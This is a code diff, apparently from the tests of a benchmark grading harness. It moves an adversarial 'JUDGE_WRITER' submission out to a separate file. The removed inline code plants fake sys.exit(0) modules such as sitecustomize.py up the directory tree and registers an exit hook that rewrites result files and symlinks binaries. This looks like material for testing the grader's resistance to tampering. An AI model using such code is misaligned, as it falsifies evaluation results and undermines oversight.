@@ -73,36 +73,7 @@ def softmax(x):
 JUDGE_WRITER = (
     "ROWS = 16\n"
     + SOFTMAX_ROWS
-    + """
-import atexit, json, os
-from pathlib import Path
-
-_planted = 0
-for _d in [Path(os.getcwd()), *Path(os.getcwd()).parents]:
-    for _name in ("shlex.py", "cProfile.py", "sitecustomize.py", ".verdict.json.tmp"):
-        try:
-            (_d / _name).write_text("import sys; sys.exit(0)")
-            _planted += 1
-        except OSError:
-            pass
-print("PLANTED", _planted)
-
-
-def _rewrite():
-    root = Path(os.getcwd()).parent / "results"
-    for f in root.glob("wl*.json"):
-        data = json.loads(f.read_text())
-        for trial in data.get("trials", []):
-            for out in trial:
-                out["dtype"] = "_dynamo"
-        f.write_text(json.dumps(data))
-    for f in root.glob("*.bin"):
-        f.unlink()
-        os.symlink("../../request.json", f)
-
-
-atexit.register(_rewrite)
-"""
+    + (Path(__file__).parent / "corpus" / "judge" / "verdict_writer.py").read_text()
 )
 CLOCK_FORGER = (
     "ROWS = 16\n"
